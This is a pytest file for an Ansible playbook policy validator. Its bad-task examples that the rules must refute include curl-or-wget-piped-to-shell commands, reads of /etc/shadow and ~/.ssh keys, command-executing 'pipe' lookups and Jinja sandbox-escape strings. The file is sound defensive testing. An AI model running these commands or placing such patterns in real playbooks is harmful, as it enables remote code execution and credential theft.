"""The table of rules: each says what it needs to say, refutes its bad examples, and lets the good ones pass."""

from __future__ import annotations

import re

import pytest

from agent.domain.verdict import Outcome
from agent.validators.policy.rules import RULES
from agent.validators.policy.validator import Policy

TASKS = "roles/audio/tasks/main.yml"
PIPE = "{{ lookup('pipe', 'id') }}"


@pytest.mark.parametrize("name", RULES)
def test_a_rule_says_why_and_what_instead(name):
    rule = RULES[name]

    assert re.fullmatch(r"[a-z]+(-[a-z]+)*", name)
    assert rule.why.endswith(".")
    assert rule.fix.endswith(".")


BAD_TASKS = {
    "lookup-executes": [
        f'- name: "x {PIPE}"\n  ansible.builtin.debug:\n',
        f'- name: X\n  ansible.builtin.debug:\n    msg: "{PIPE}"\n',
        "- name: X\n  ansible.builtin.debug:\n  when: lookup('pipe', 'id') == 'x'\n",
        "- name: X\n  ansible.builtin.debug:\n  when: lookup('pipe', 'id') == \"{{ x }}\"\n",
        "- name: X\n  ansible.builtin.debug:\n  when:\n    - true\n    - query('pipe', 'id')\n",
        "- name: X\n  ansible.builtin.debug:\n    var: q('pipe', 'id')\n",
        "- name: X\n  ansible.builtin.assert:\n    that:\n      - lookup('ansible.builtin.pipe', 'id')\n",
        f'- name: X\n  ansible.builtin.debug:\n  vars:\n    a: "{PIPE}"\n',
        f'- name: X\n  ansible.builtin.debug:\n  environment:\n    A: "{PIPE}"\n',
        f'- name: X\n  ansible.builtin.debug:\n  loop: "{PIPE}"\n',
        f'- name: X\n  ansible.builtin.debug:\n  loop_control:\n    label: "{PIPE}"\n',
        f'- ansible.builtin.import_tasks: "{PIPE}"\n',
        f'- name: X\n  debug: msg="{PIPE.replace(chr(39), "")}"\n'.replace("(pipe, id)", "('pipe', 'id')"),
        "- name: X\n  ansible.builtin.debug:\n  with_pipe: id\n",
        "- name: X\n  ansible.builtin.debug:\n  with_ansible.builtin.lines: id\n",
        "- name: X\n  block:\n    - name: Y\n      ansible.builtin.debug:\n      with_lines: id\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: '{{ \"{{ lookup(''pipe'', 1) }}\" }}'\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{% if a %}{% set x = lookup('pipe', 'id') %}{% endif %}\"\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ ['a'] | map('extract', lookup('pipe', 'id')) }}\"\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"#jinja2:variable_start_string:'[['\\n[[ q('pipe') }}\"\n",
        '- name: X\n  ansible.builtin.debug:\n    msg: "{{ x' + " ~ x" * 3_000 + " ~ lookup('pipe', 'id') }}\"\n",
    ],
    "lookup-reads-controller": [
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('env', 'HOME') }}\"\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('password', '/tmp/x') }}\"\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('url', 'http://x') }}\"\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('community.general.passwordstore', 'x') }}\"\n",
    ],
    "lookup-unknown": ["- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('acme.x.y', 1) }}\"\n"],
    "lookup-not-literal": [
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('pi' ~ 'pe', 'id') }}\"\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup(x, 'id') }}\"\n",
        '- name: X\n  ansible.builtin.debug:\n    msg: "{{ lookup(*x) }}"\n',
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{% set l = lookup %}{{ l('pipe', 'id') }}\"\n",
        '- name: X\n  ansible.builtin.debug:\n    msg: "{% if false %}{% set q = 1 %}{% endif %}{{ q(x) }}"\n',
        "- name: X\n  ansible.builtin.debug:\n    msg: '{{ \"{% set l = lookup %}\" }}'\n",
    ],
    "lookup-outside-role": [
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('file', '/etc/shadow') }}\"\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('template', '../../x') }}\"\n",
        "- name: X\n  ansible.builtin.debug:\n  with_fileglob: ~/.ssh/*\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('file', ['a', x, ['/etc/shadow']]) }}\"\n",
    ],
    "lookup-path-not-literal": [
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('file', x) }}\"\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('file', ['motd']) }}\"\n",
    ],
    "filter-reads-controller": ["- name: X\n  ansible.builtin.debug:\n    msg: \"{{ '$TOKEN' | expandvars }}\"\n"],
    "jinja-internals": [
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ ''.__class__.__mro__ }}\"\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ x | attr('__globals__') }}\"\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ self._TemplateReference__context['q']('pipe') }}\"\n",
    ],
    "jinja-unparsable": [
        '- name: X\n  ansible.builtin.debug:\n    msg: "{{ x"\n',
        "- name: X\n  ansible.builtin.debug:\n  when: a ==\n",
    ],
    "jinja-delimiters": [
        "- name: X\n  ansible.builtin.template:\n    src: a\n    dest: /b\n    variable_start_string: '[['\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: \"#jinja2: variable_start_string:'[['\\n[[ q('pipe') ]]\"\n",
    ],
    "download-piped-to-shell": [
        "- name: X\n  ansible.builtin.shell: curl -fsSL https://x.example/i | sh\n",
        "- name: X\n  ansible.builtin.shell:\n    cmd: wget -qO- https://x.example/i | sudo -E bash -s -- --yes\n",
        "- name: X\n  ansible.builtin.shell: |\n    set -e\n    curl https://x.example/i \\\n      | bash\n",
        "- name: X\n  ansible.builtin.command: bash -c 'bash <(curl -s https://x.example/i)'\n",
        '- name: X\n  ansible.builtin.command:\n    argv: [sh, -c, "$(curl -fsSL https://x.example/i)"]\n',
        '- name: X\n  ansible.builtin.shell: python3 -c "$(curl -s https://x.example/i)"\n',
        "- name: X\n  ansible.builtin.raw: echo aWQK | base64 -d | sh\n",
        "- name: X\n  ansible.builtin.script:\n  args:\n    cmd: curl https://x.example/i | python3\n",
        "- name: X\n  local_action: shell curl https://x.example/i | sh\n",
        "- name: X\n  ansible.builtin.copy:\n    content: |\n      #!/bin/sh\n      curl https://x.example | sh\n",
        "- name: X\n  ansible.builtin.shell: eval `curl https://x.example/i`\n",
    ],
    "secret-in-clear": [
        "- name: X\n  ansible.builtin.user:\n    name: a\n    password: hunter2\n",
        "- name: X\n  ansible.builtin.debug:\n  vars:\n    api_token: 12345678\n",
        "- name: X\n  ansible.builtin.debug:\n    msg: AKIAIOSFODNN7EXAMPLE\n",
        "- name: X\n  ansible.builtin.copy:\n    content: |\n      -----BEGIN OPENSSH PRIVATE KEY-----\n      b3\n",
    ],
    "unreadable": ["- name: X\n   ansible.builtin.debug: [\n", "- name: X\n  name: Y\n  ansible.builtin.debug:\n"],
    "lint-silenced": [
        "- name: X\n  ansible.builtin.debug:  # noqa: args\n",
        "# noqa: name[casing]\n- name: x\n  ansible.builtin.debug:\n",
        "- name: X\n  ansible.builtin.debug:\n  tags: [a, skip_ansible_lint]\n",
        '- name: X\n  ansible.builtin.debug:\n  tags: "skip\\x5fansible_lint"\n',
        "# yamllint disable\n- name: X\n  ansible.builtin.debug:\n",
    ],
    "shell": [
        "- name: X\n  ansible.builtin.shell: echo a\n",
        "- name: X\n  raw: echo a\n",
        "- name: X\n  action: shell echo a\n",
        "- name: X\n  action:\n    module: ansible.builtin.shell\n    cmd: echo\n",
        "- name: X\n  ansible.builtin.command: /bin/sh -c 'echo a'\n",
        "- name: X\n  ansible.builtin.command:\n    argv: [bash, -lc, id]\n",
        "- name: X\n  block:\n    - name: Y\n      ansible.builtin.script: x.sh\n",
    ],
    "check-mode-off": [
        "- name: X\n  ansible.builtin.debug:\n  check_mode: false\n",
        '- name: X\n  ansible.builtin.debug:\n  check_mode: "{{ 1 == 2 }}"\n',
        "- name: X\n  check_mode: no\n  block:\n    - name: Y\n      ansible.builtin.debug:\n",
    ],
    "delegated": [
        "- name: X\n  ansible.builtin.debug:\n  delegate_to: localhost\n",
        "- name: X\n  local_action: debug\n",
    ],
    "templated-include": [
        '- ansible.builtin.include_tasks: "{{ x }}.yml"\n',
        '- ansible.builtin.include_tasks:\n    file: "{{ x }}.yml"\n',
        '- ansible.builtin.import_role:\n    name: "{{ x }}"\n',
    ],
}


@pytest.mark.parametrize(("rule", "text"), [(rule, text) for rule, texts in BAD_TASKS.items() for text in texts])
def test_a_bad_task_is_refuted_by_its_rule(make_subject, rule, text):
    report = Policy().validate(make_subject({TASKS: f"---\n{text}"}))

    assert report.outcome is Outcome.REFUTED
    assert rule in {finding.rule for finding in report.findings}
    assert all(finding.path == TASKS and finding.line > 0 and finding.fix for finding in report.findings)


GOOD_TASKS = [
    "- name: X\n  ansible.builtin.include_vars: \"{{ lookup('first_found', files) }}\"\n",
    "- name: X\n  ansible.builtin.include_vars: '{{ ansible_facts.os_family }}.yml'\n",
    "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('file', 'motd') }}\"\n",
    "- name: X\n  ansible.builtin.debug:\n    msg: \"{{ lookup('ansible.builtin.vars', 'x' ~ y) }}\"\n",
    "- name: X\n  ansible.builtin.debug:\n  with_items: '{{ x }}'\n",
    "- name: X\n  ansible.builtin.debug:\n  with_first_found:\n    - a.yml\n",
    "- name: X\n  ansible.builtin.debug:\n    msg: !unsafe \"{{ lookup('pipe', 'id') }}\"\n",
    "- name: X\n  ansible.builtin.debug:\n    msg: \"{% raw %}{{ lookup('pipe', 'id') }}{% endraw %}\"\n",
    "- name: X\n  ansible.builtin.debug:\n  when: a is defined and b | default('x') == 'y'\n",
    "- name: X\n  ansible.builtin.debug:\n  when: '{{ a }}'\n",
    "- name: X\n  ansible.builtin.command: sh /opt/x/run\n  changed_when: false\n",
    "- name: X\n  ansible.builtin.command: curl -s https://x.example/v | python3 -m json.tool\n",
    "- name: X\n  ansible.builtin.get_url:\n    url: https://x.example/sh\n    dest: /x\n    checksum: sha256:0\n",
    "- name: X\n  ansible.builtin.user:\n    password: '{{ vault_password }}'\n    update_password: on_create\n",
    "- name: X\n  ansible.builtin.user:\n    name: a\n    password: '!'\n    password_lock: true\n",
    "- name: X\n  ansible.builtin.user:\n    password: !vault |\n      $ANSIBLE_VAULT;1.1;AES256\n      6162\n",
    "- name: X\n  ansible.builtin.debug:\n  check_mode: true\n",
    "- name: X\n  ansible.builtin.include_tasks: more.yml\n",
    "- name: Run curl or sh\n  ansible.builtin.debug:\n    msg: it's 5 | 6 (curl)\n",
    "- name: X\n  ansible.builtin.template:\n    src: a.j2\n    dest: '{{ x }}'\n  vars:\n    a__b: 1\n",
]


@pytest.mark.parametrize("text", GOOD_TASKS)
def test_a_good_task_passes(make_subject, text):
    report = Policy().validate(make_subject({TASKS: f"---\n{text}"}))

    assert (report.outcome, report.findings) == (Outcome.PROVEN, ())


def test_every_rule_has_a_bad_example():
    elsewhere = {"plugin-changed", "configuration-changed", "own-policy-changed", "symbolic-link"}
    assert set(BAD_TASKS) | elsewhere == set(RULES)
